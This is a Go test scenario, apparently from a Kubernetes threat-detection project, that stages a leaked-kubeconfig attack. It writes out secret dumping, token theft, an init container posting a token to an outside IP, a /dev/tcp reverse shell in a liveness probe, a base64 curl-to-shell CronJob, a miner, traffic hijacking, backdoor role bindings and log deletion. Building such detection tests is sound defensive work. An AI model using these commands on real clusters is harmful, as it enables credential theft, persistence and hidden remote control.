package play

import (
	"fmt"
	"time"

	"github.com/lynceus-io/lynceus/test/scenarios/stage"
)

const (
	imageSwapped = "docker.io/shopweb/web:5.3.0"
	imageBatch   = "docker.io/library/nginx:1.27"
)

// deployerRole is what a pipeline that installs charts gets so that no chart fails.
const deployerRole = `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: chart-deployer}
rules:
- {apiGroups: [""], resources: [namespaces, endpoints], verbs: [get, list, create, patch, update]}
- {apiGroups: [discovery.k8s.io], resources: [endpointslices], verbs: [get, list, create, patch, delete]}
- {apiGroups: [networking.k8s.io], resources: [ingresses, ingressclasses], verbs: [get, list, create, patch, delete]}
- {apiGroups: [rbac.authorization.k8s.io], resources: [roles, rolebindings, clusterroles, clusterrolebindings], verbs: [get, list, create, patch, bind, escalate]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: chart-deployer}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: chart-deployer}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: pipelines}]
`

// Leak is a pipeline's kubeconfig that stood in a public build log: the supply chain turned against its owners.
func Leak(s *stage.Stage) {
	c := Found(s)
	s.Images(imageSwapped, imageBatch, imageHelper, imageNetshoot)
	c.Mira.MustApply(deployerRole, "apply", "-f", "-")
	for i := range 3 { // an ordinary release, for there to be something to take
		helm(c.CI, "shop", "search", i+1)
	}
	c.CI.MustApply(cronJob("data", "nightly-etl", imageETL, "17 3 * * *", `[sleep, "2"]`), "apply", "-f", "-")
	thief := c.CI.At(s.Outside("mallory", "203.0.113.171")).By("")

	s.Attack("T1078", "Initial Access: Kubeconfig file", "tries the pipeline's kubeconfig from an unknown place").
		As(thief).Do(func(a *stage.Act) {
		a.Kubectl("auth", "whoami")
		a.Kubectl("auth", "can-i", "--list", "-n", "shop")
		a.Kubectl("auth", "can-i", "*", "*", "--all-namespaces")
	})
	releases(s, thief)
	supplyChain(s, thief)
	traffic(s, thief)
	lasting(s, thief)
}

// releases takes what pipelines can read.
func releases(s *stage.Stage, thief *stage.Actor) {
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "reads helm's releases, which hold the values of every chart").
		As(thief).Do(func(a *stage.Act) { a.Must("-n", "shop", "get", "secrets", "-l", "owner=helm", "-o", "json") })
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "gets secrets by a watch instead of a list").
		As(thief).Do(func(a *stage.Act) {
		a.Request(curl, "GET", "/api/v1/namespaces/payments/secrets?watch=1&timeoutSeconds=2&resourceVersion=0", "")
	})
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "has secrets described and printed by a template").
		As(thief).Do(func(a *stage.Act) {
		a.Kubectl("-n", "data", "describe", "secrets")
		a.Kubectl("-n", "payments", "get", "secret", "db-credentials", "stripe-key", "-o", `go-template={{range .items}}{{.data}}{{end}}`)
	})
	api := s.Pod("payments", "app=api")
	s.Attack("T1005", "Collection: Collecting data from pod", "copies the mounted credentials out of "+api.String()+" with kubectl cp").
		On(api).As(thief).Do(func(a *stage.Act) {
		a.Kubectl("-n", "payments", "cp", api.Name+":/var/run/secrets", "/dev/null")
	})
	s.Attack("T1613", "Credential Access: Application credentials in configuration files", "prints the environment of all workloads of its namespaces").
		As(thief).Do(func(a *stage.Act) {
		for _, ns := range []string{"payments", "shop", "data"} {
			a.Kubectl("-n", ns, "set", "env", "deploy,cronjob", "--all", "--list", "--resolve")
		}
	})
}

// supplyChain changes what is deployed.
func supplyChain(s *stage.Stage, thief *stage.Actor) {
	s.Attack("T1525", "Initial Access: Compromised image in registry", "applies shop/web on the server's side with an image of another registry").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(Deployment("shop", "web", imageSwapped, 2, ""), "apply", "--server-side", "--force-conflicts", "-f", "-")
	})
	s.Attack("T1610", "Execution: Sidecar injection", "has an init container of payments/api send its token away").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "patch", "deploy", "api", "--type=strategic", "-p", fmt.Sprintf(`{"spec":{"template":{"spec":{"initContainers":[{"name":"warmup","image":%q,"imagePullPolicy":"IfNotPresent","command":["sh","-c","curl -s --data-binary @%s http://203.0.113.171/t"]}]}}}}`, imageHelper, stage.TokenFile))
	})
	s.Attack("T1059", "Persistence: Backdoor container", "has the liveness probe of shop/cart call home").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "shop", "patch", "deploy", "cart", "--type=json", "-p", `[{"op":"add","path":"/spec/template/spec/containers/0/livenessProbe","value":{"exec":{"command":["bash","-c","bash -i >& /dev/tcp/203.0.113.171/443 0>&1"]},"periodSeconds":60}}]`)
	})
	s.Attack("T1053.007", "Persistence: Kubernetes CronJob", "changes an existing CronJob's command and starts it at once").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "data", "patch", "cronjob", "nightly-etl", "--type=json", "-p", `[{"op":"replace","path":"/spec/jobTemplate/spec/template/spec/containers/0/command","value":["sh","-c","echo Y3VybCAtcyAyMDMuMC4xMTMuMTcxL2E= | base64 -d | sh"]}]`)
		a.Must("-n", "data", "create", "job", "etl-now", "--from=cronjob/nightly-etl")
	})
	s.Attack("T1496", "Impact: Resource hijacking", "runs a miner in an image of a good name, in many copies").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(`apiVersion: apps/v1
kind: Deployment
metadata: {name: web-cache, namespace: shop}
spec:
  replicas: 3
  selector: {matchLabels: {app: web-cache}}
  template:
    metadata: {labels: {app: web-cache}}
    spec: {terminationGracePeriodSeconds: 0, containers: [{name: nginx, image: "`+imageBatch+`", imagePullPolicy: IfNotPresent, command: [sleep], args: ["3600", "-o", "stratum+ssl://pool.example.net:443", "--donate-level", "1", "--cpu-max-threads-hint", "80"]}]}
`, "create", "-f", "-")
	})
	s.Attack("T1610", "Privilege Escalation: hostPath mount", "has a StatefulSet's init container write to the node's runtime directory").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(`apiVersion: apps/v1
kind: StatefulSet
metadata: {name: queue, namespace: data}
spec:
  serviceName: queue
  selector: {matchLabels: {app: queue}}
  template:
    metadata: {labels: {app: queue}}
    spec:
      terminationGracePeriodSeconds: 0
      initContainers: [{name: prepare, image: "`+imageHelper+`", imagePullPolicy: IfNotPresent, command: [ls, /c], volumeMounts: [{name: c, mountPath: /c}]}]
      containers: [{name: main, image: "`+imageETL+`", imagePullPolicy: IfNotPresent, command: [sleep, "3600"]}]
      volumes: [{name: c, hostPath: {path: /var/lib/containerd}}]
`, "create", "-f", "-")
	})
}

// traffic sends others' traffic elsewhere.
func traffic(s *stage.Stage, thief *stage.Actor) {
	s.Attack("T1190", "Initial Access: Exposed sensitive interfaces", "takes the path of another team by an ingress with a snippet for its proxy").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(`apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: pay
  namespace: shop
  annotations:
    nginx.ingress.kubernetes.io/configuration-snippet: "proxy_set_header X-T $http_authorization; lua_code { local f = io.open('/var/run/secrets/kubernetes.io/serviceaccount/token') }"
spec:
  rules: [{host: pay.example.com, http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 80}}}}]}}]
`, "create", "-f", "-")
	})
	s.Attack("T1557", "Lateral Movement: Cluster internal networking", "turns service payments/ledger into a name of its own outside").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "patch", "service", "ledger", "--type=merge", "-p", `{"spec":{"type":"ExternalName","externalName":"ledger.example.net","clusterIP":null,"clusterIPs":null,"selector":null}}`)
	})
	s.Attack("T1557", "Lateral Movement: Cluster internal networking", "adds an address of its own to the endpoints of payments/api").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(`apiVersion: discovery.k8s.io/v1
kind: EndpointSlice
metadata: {name: api-extra, namespace: payments, labels: {kubernetes.io/service-name: api}}
addressType: IPv4
ports: [{name: http, port: 8080, protocol: TCP}]
endpoints: [{addresses: [203.0.113.171], conditions: {ready: true}}]
`, "create", "-f", "-")
	})
}

// lasting stays, also when the kubeconfig is taken back.
func lasting(s *stage.Stage, thief *stage.Actor) {
	s.Attack("T1098.006", "Persistence: Backdoor account", "gives the default account of shop the administrator's role in kube-system").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "kube-system", "create", "rolebinding", "metrics-reader", "--clusterrole=admin", "--serviceaccount=shop:default")
	})
	s.Attack("T1098.006", "Privilege Escalation: Cluster-admin binding", "adds secrets and exec to role view by aggregation").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(`apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: chart-view, labels: {rbac.authorization.k8s.io/aggregate-to-view: "true"}}
rules: [{apiGroups: [""], resources: [secrets, pods/exec], verbs: [get, list, create]}]
`, "apply", "--server-side", "-f", "-")
	})
	s.Attack("T1136", "Persistence: Backdoor account", "makes an account with a token that does not end").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "data", "create", "serviceaccount", "chart-sync")
		a.Must("-n", "data", "create", "rolebinding", "chart-sync", "--clusterrole=admin", "--serviceaccount=data:chart-sync")
		a.MustApply(longLivedToken("data", "chart-sync"), "apply", "--server-side", "-f", "-")
	})
	s.Sleep(settled)
	var token string
	s.Attack("T1552.007", "Credential Access: Access container service account", "reads that token").
		As(thief).Do(func(a *stage.Act) {
		_, body := a.Request(curl, "GET", "/api/v1/namespaces/data/secrets/chart-sync-token", "")
		token = decoded(between(body, `"token": "`, `"`, `"token":"`))
	})
	s.Attack("T1550.001", "Persistence: Container service account", "uses the account it made").
		As(s.Bearer(thief.In, token, nil)).Do(func(a *stage.Act) { a.Kubectl("-n", "data", "get", "secrets,pods") })
	s.Attack("T1070", "Defense Evasion: Delete Kubernetes events", "deletes the events and the release of its changes").
		As(thief).Do(func(a *stage.Act) {
		a.Kubectl("-n", "shop", "delete", "secret", "sh.helm.release.v1.search.v3")
		a.Kubectl("-n", "data", "delete", "job", "etl-now")
		a.Brief(5*time.Second, "-n", "payments", "delete", "pods", "-l", "app=ledger", "--force", "--grace-period=0")
	})
}
